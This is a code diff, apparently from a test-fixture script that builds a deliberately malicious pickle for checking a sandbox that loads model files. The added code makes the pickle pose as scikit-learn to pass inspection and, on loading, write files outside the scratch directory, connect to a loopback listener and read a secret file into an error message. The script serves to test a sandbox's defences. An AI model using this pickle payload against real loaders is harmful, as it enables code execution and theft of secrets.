@@ -89,13 +89,18 @@ if wanted("lgbm"):
     lr_ = lightgbm.LGBMRegressor(n_estimators=40, num_leaves=15, random_state=0, verbose=-1).fit(X, target)
     write("lgbm_reg", lr_)
 if only == "evil":
-    # A pickle that names scikit-learn (so it passes the inspection) and, when loaded, writes a
-    # file outside the sandbox's scratch directory and connects to a listener on loopback.
-    target_file, port = os.environ["EVIL_FILE"], int(os.environ["EVIL_PORT"])
+    # A pickle that names scikit-learn (so it passes the inspection) and, when loaded, writes
+    # files outside the sandbox's scratch directory (EVIL_FILES, comma-separated: some where the
+    # sandbox shows nothing, one in a directory it shows read-only), connects to a listener on
+    # loopback (EVIL_PORT), and reads a secret (EVIL_SECRET) into its error message.
+    targets, port, secret = os.environ["EVIL_FILES"].split(","), int(os.environ["EVIL_PORT"]), os.environ["EVIL_SECRET"]
     code = (
         "import socket\n"
-        f"try:\n    open({target_file!r}, 'w').write('written by the pickle')\nexcept Exception as e:\n    print('write refused:', e)\n"
+        f"for target in {targets!r}:\n"
+        "    try:\n        open(target, 'w').write('written by the pickle')\n    except Exception as e:\n        print('write refused:', e)\n"
         f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'hello from the pickle')\nexcept Exception as e:\n    print('connect refused:', e)\n"
+        f"try:\n    stolen = open({secret!r}).read()\nexcept Exception:\n    stolen = None\n"
+        "if stolen:\n    raise RuntimeError('stolen: ' + stolen)\n"
     )
 
     class Payload:
